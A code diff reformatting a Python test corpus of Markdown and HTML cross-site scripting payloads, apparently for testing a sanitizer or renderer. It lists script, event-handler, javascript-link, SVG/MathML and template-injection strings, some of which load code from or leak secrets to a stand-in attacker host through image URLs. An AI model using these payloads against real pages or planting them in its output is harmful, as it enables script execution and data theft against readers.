@@ -1,7 +1,9 @@
-"""Texts that try to run a script, load something or take the page over, each in Markdown: a model, a person or a file may say them.
+"""Texts that try to run a script, load something or take the page over, each in Markdown: a model, a person or a file
+may say them.
 
-An attack that works calls `pwned()` or asks the host ATTACKER for something. Gathered by kind after OWASP's filter-evasion
-sheet and the advisories of Markdown renderers; none is known to work on a parser without raw HTML and images.
+An attack that works calls `pwned()` or asks the host ATTACKER for something. Gathered by kind after OWASP's
+filter-evasion sheet and the advisories of Markdown renderers; none is known to work on a parser without raw HTML and
+images.
 """
 
 ATTACKER = "attacker.example"
@@ -14,7 +16,7 @@ CORPUS = (
     "<script\x0c>pwned()</script\x0c>",
     "</script><script>pwned()</script>",
     "<script type=module>import '//attacker.example/x.js'</script>",
-    "<noscript><p title=\"</noscript><img src=x onerror=pwned()>\">",
+    '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
     "<template><script>pwned()</script></template>",
     "<iframe src=javascript:pwned()></iframe>",
     "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
@@ -32,7 +34,7 @@ CORPUS = (
     "<img src=x onerror=pwned()>",
     "<img/src=`x`onerror=pwned()>",
     "<img src=x onerror\x0b=pwned()>",
-    "<IMG \"\"\"><SCRIPT>pwned()</SCRIPT>\">",
+    '<IMG """><SCRIPT>pwned()</SCRIPT>">',
     "<img src=x:x onerror&#61;pwned()>",
     "<body onload=pwned()>",
     "<input autofocus onfocus=pwned()>",
@@ -56,7 +58,7 @@ CORPUS = (
     "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>pwned()</script></svg>#x'/></svg>",
     "<svg><foreignObject><iframe srcdoc='<script>parent.pwned()</script>'></foreignObject></svg>",
     "<svg><style><img src=x onerror=pwned()></style></svg>",
-    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=pwned()&gt;\">",
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwned()&gt;">',
     "<math href=javascript:pwned()>x</math>",
     "<math><annotation-xml encoding=text/html><script>pwned()</script></annotation-xml></math>",
     "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=</style><img onerror=pwned() src>",
@@ -77,13 +79,13 @@ CORPUS = (
     "[x][y]\n\n[y]: javascript:pwned()",
     "<javascript:pwned()>",
     "<data:text/html,<script>pwned()</script>>",
-    "[x](http://a.b/\"onmouseover=\"pwned())",
+    '[x](http://a.b/"onmouseover="pwned())',
     "[x](http://a.b 'x\" onmouseover=pwned() y=\"')",
     "[![x](javascript:pwned())](javascript:pwned())",
     # images, which load by themselves
     "![x](http://attacker.example/leak.png?what=secret)",
     "![x](javascript:pwned())",
-    "![x](\"onerror=\"pwned())",
+    '![x]("onerror="pwned())',
     "![x][y]\n\n[y]: http://attacker.example/leak.png",
     "<img srcset='//attacker.example/a.png 1x'>",
     "<picture><source srcset=//attacker.example/a.png><img></picture>",
@@ -91,7 +93,7 @@ CORPUS = (
     "<video poster=//attacker.example/a.png></video>",
     "<table background=//attacker.example/a.png><tr><td>x</table>",
     # code, and what a highlighter makes of it
-    "```\"><script>pwned()</script>\nx\n```",
+    '```"><script>pwned()</script>\nx\n```',
     "```html\n<script>pwned()</script><img src=x onerror=pwned()>\n```",
     "```python onload=pwned()\nprint('</code></pre><script>pwned()</script>')\n```",
     "``` <img/src=x/onerror=pwned()>\nx\n```",
@@ -114,4 +116,4 @@ CORPUS = (
     "\ufeff<script>pwned()</script>\0<img src=x onerror=pwned()>",
     "&lt;img src=x onerror=pwned()&gt; &amp;lt;script&amp;gt;pwned()",
     "${pwned()} {{pwned()}} {{constructor.constructor('pwned()')()}} <%= pwned() %>",
-)  # fmt: skip
+)
